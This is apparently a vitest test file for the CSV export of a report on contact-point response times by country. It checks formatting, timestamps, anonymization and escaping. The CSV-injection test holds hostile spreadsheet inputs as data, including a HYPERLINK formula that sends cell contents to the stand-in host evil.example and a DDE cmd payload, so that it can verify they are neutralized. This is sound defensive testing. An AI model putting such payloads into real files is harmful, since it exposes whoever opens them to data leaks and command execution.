import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, renderCsv } from '../../src/report/csv.js';
import { buildReportModel } from '../../src/report/model.js';
import type { Stats } from '../../src/stats/types.js';
import { bucketsFor, sampleMeta, sampleStats } from './sample-stats.js';

const rows = (stats: Stats, opts: Parameters<typeof buildReportModel>[1] = {}) => {
  const text = renderCsv(buildReportModel({ stats, meta: sampleMeta() }, opts));
  return { text, records: parse<Record<(typeof CSV_COLUMNS)[number], string>>(text, { bom: true, columns: true }) };
};

describe('CSV export', () => {
  it('has one row per contact point: the one that counted, and those named in findings', () => {
    const s = sampleStats();
    const { text, records } = rows(s);
    expect(text.startsWith('\uFEFFcountry,iso,status,outcome,response_seconds,')).toBe(true);
    expect(text).toContain('\r\n');
    // 68 countries; one silent country also has a failing prosecution address: 69 rows.
    expect(records).toHaveLength(69);
    const be = records.filter((r) => r.country === s.findings[0]!.country);
    expect(be.map((r) => [r.contact_id, r.counted])).toEqual([
      [s.findings[0]!.contactId!.replace('-PRO', '-POL'), 'no'],
      [s.findings[0]!.contactId, 'no'],
    ]);
    expect(be[1]!.findings).toMatch(/^e-mail duty@prosecution\.\w+\.example: failed \(550 5\.1\.1 /);
  });
  it('writes UTC timestamps with Z, seconds as plain numbers, local time with its offset', () => {
    const s = sampleStats();
    const { records } = rows(s, { locale: 'de' });
    const ro = records.find((r) => r.country === 'Romania')!;
    expect(ro).toMatchObject({ iso: 'RO', status: 'party', outcome: 'answered', within: '15 minutes', contact_id: 'RO-POL', counted: 'yes', sent_at: '2023-06-07T07:30:00Z', timezone: 'Europe/Bucharest', local_time_at_contact: '2023-06-07T10:30:00+03:00' });
    expect(ro.response_seconds).toBe(String(s.countries.find((c) => c.country === 'Romania')!.responseSeconds));
    for (const r of records) {
      for (const k of ['sent_at', 'answered_at'] as const) if (r[k]) expect(r[k]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
      if (r.response_seconds) expect(r.response_seconds).toMatch(/^\d+(\.\d+)?$/);
    }
    const late = records.find((r) => r.outcome === 'late')!;
    expect([late.within, late.counted]).toEqual(['after 24 hours', 'yes']);
  });
  it('escapes cells a spreadsheet would run as formulas (CSV injection)', () => {
    const s = sampleStats();
    s.countries[0]!.country = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    s.countries[1]!.country = '+cmd|" /C calc"!A0';
    s.countries[2]!.country = '-2+3';
    s.countries[3]!.country = '@SUM(1+1)';
    s.countries[4]!.country = '\t=1';
    s.findings[0]!.detail = '=1+2';
    s.buckets = bucketsFor(s.countries, s.population);
    const { text, records } = rows(s);
    const names = records.map((r) => r.country);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(names).toContain(`'+cmd|" /C calc"!A0`);
    expect(names).toContain(`'-2+3`);
    expect(names).toContain(`'@SUM(1+1)`);
    expect(names).toContain(`'\t=1`);
    // A finding's cell starts with its channel, so a phone number (+...) never leads it.
    expect(records.find((r) => r.findings.includes('+15555550123'))!.findings.startsWith('SMS +1555')).toBe(true);
    expect(records.find((r) => r.findings.includes('(=1+2)'))).toBeDefined();
    // No raw line of the file starts a cell with a formula character.
    for (const line of text.split('\r\n').slice(1)) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  });
  it('has one row per country and no contact detail when anonymized', () => {
    const { records } = rows(sampleStats(), { anonymize: true });
    expect(records).toHaveLength(68);
    expect(records.every((r) => /^Country \d\d$/.test(r.country) && r.iso === '' && r.contact_id === '' && r.timezone === '')).toBe(true);
    expect(records.some((r) => /^(night|morning|afternoon|evening) \(/.test(r.local_time_at_contact))).toBe(true);
    expect(records.some((r) => r.findings.includes('hidden'))).toBe(true);
  });
});
